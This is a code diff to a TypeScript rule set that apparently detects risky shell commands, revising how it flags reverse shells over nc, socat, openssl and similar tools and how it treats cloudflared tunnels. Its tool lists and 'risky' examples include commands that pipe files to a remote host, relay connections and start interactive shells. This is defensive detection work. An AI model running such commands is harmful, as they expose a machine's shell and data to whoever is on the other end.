@@ -83,14 +83,13 @@ export const SHELL_RULES: readonly Rule[] = [
     why: 'Whoever is at the other end of the connection types into this machine’s shell.',
     tools: [...SHELLS, ...tools('nc ncat netcat telnet openssl socat')],
     when: (c) => {
-      const fromShell = (c.input.taint & TAINT.shell) !== 0
-      if (SHELLS.has(c.name)) {
-        const interactive = c.args.every((arg) => /^-[isl]*$/.test(arg.text))
-        const tied = c.redirections.filter((r) => c.scope.sockets?.has(r.target.text))
-        if (tied.length > 0) return tied.map((r) => r.target)
-        return interactive && fromShell && (c.input.taint & TAINT.network) !== 0
-      }
-      return fromShell && (c.name !== 'openssl' || c.args[0]?.text === 's_client')
+      const has = (kind: number) => (c.input.taint & kind) !== 0
+      if (!SHELLS.has(c.name))
+        return has(TAINT.shell) && (c.name !== 'openssl' || c.args[0]?.text === 's_client')
+      const tied = c.redirections.filter((r) => c.scope.sockets?.has(r.target.text))
+      return tied.length > 0
+        ? tied.map((r) => r.target)
+        : has(TAINT.dialogue) && c.args.every((arg) => /^-[isl]*$/.test(arg.text))
     },
     examples: {
       risky: [
@@ -104,6 +103,7 @@ export const SHELL_RULES: readonly Rule[] = [
         'bash script.sh | nc host 1',
         'tar cz . | nc host 1',
         'nc -l 1 | tar xz',
+        'nc -l 1 | nc host 2',
         'echo ls | sh',
         'bash -i',
       ],
@@ -120,7 +120,8 @@ export const SHELL_RULES: readonly Rule[] = [
           c.args.some((arg) => /^-[A-Za-z]*R/.test(arg.text)),
           true,
         )
-      if (c.name === 'cloudflared') return only(verb(o) === 'tunnel', true)
+      if (c.name === 'cloudflared')
+        return only(verb(o) === 'tunnel' && (verb(o, 1) === 'run' || o.flag('url')), true)
       return !o.flag('help', 'version', 'h', 'v')
     },
     examples: {
